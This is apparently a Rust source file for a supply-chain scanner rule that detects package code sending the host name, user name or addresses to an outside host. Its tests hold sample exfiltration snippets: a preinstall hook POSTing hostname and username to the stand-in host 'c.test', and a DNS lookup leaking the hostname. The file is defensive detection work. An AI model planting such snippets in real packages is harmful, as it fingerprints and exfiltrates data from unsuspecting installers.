use apa_model::{Confidence, Severity};

use super::code_uses_drop_host::drops;
use super::{Hit, Rule, RuleInfo, carried, is_local, is_own, leaves, peer, proof};
use crate::act::ActKind;
use crate::flow::Source;
use crate::package::{Package, When};

pub(crate) struct CodeSendsHostIdentity;

static INFO: RuleInfo = RuleInfo {
    id: "code-sends-host-identity",
    title: "Code sends what names the machine",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1082", "T1033", "T1041"],
    explanation: "Host name, user name, addresses or working folder flow into something that leaves, at \
                  installation or import. Two of them are a fingerprint; one at import alone may be telemetry. \
                  Functions that somebody must call count only towards a drop host.",
};

impl Rule for CodeSendsHostIdentity {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const HOST: &[Source] = &[Source::Host];
        let mut hits = Vec::new();
        for act in package
            .acts()
            .filter(|act| leaves(act) && !is_local(&act.text))
        {
            let facts = act.taints.of(Source::Host).count();
            let when = package.when(act);
            let own = is_own(package, act);
            let (severity, confidence) = match (facts, when) {
                (0, _) => continue,
                (_, When::Install) if act.kind == ActKind::Resolve => {
                    (Severity::High, Confidence::High)
                }
                (2.., When::Install | When::Start) if !own => (Severity::High, Confidence::High),
                (_, When::Install | When::Start) => (Severity::High, Confidence::Medium),
                (2.., When::Import) if !own => (Severity::High, Confidence::Medium),
                (_, When::Import) if act.kind == ActKind::Resolve => {
                    (Severity::High, Confidence::Medium)
                }
                (_, When::Import) => (Severity::Medium, Confidence::Medium),
                (2.., When::Run) if drops(&act.text) => (Severity::Medium, Confidence::Medium),
                _ => continue,
            };
            let clause = format!(
                "sends {} to {} {}",
                carried(act, HOST),
                peer(act),
                when.words()
            );
            hits.push(Hit::new(severity, confidence, clause).with(proof(
                package,
                act,
                "sent here",
                HOST,
            )));
        }
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn a_fingerprint_sent_at_installation_is_found() {
        let finding = found(
            "code-sends-host-identity",
            &[
                ("package.json", r#"{"scripts":{"preinstall":"node i.js"}}"#),
                (
                    "i.js",
                    "const os=require('os');\nconst d=JSON.stringify({h:os.hostname(),u:os.userInfo().username});\n\
                          const r=require('https').request({hostname:'c.test',method:'POST'});\nr.write(d);r.end();",
                ),
            ],
        );
        assert_eq!(finding.confidence, Confidence::High);
        assert_eq!(line(&finding), ("i.js".to_owned(), 4));
    }

    #[test]
    fn a_name_lookup_that_carries_the_host_name_is_found() {
        found(
            "code-sends-host-identity",
            &[(
                "setup.py",
                "import socket\nsocket.gethostbyname(socket.gethostname() + '.c.test')",
            )],
        );
    }

    #[test]
    fn telemetry_that_somebody_must_call_is_left_alone() {
        quiet(
            "code-sends-host-identity",
            &[(
                "pkg/report.py",
                "import platform, requests\ndef report():\n    requests.post('https://c.test/v1', json={'n': platform.node()})\n",
            )],
        );
    }
}
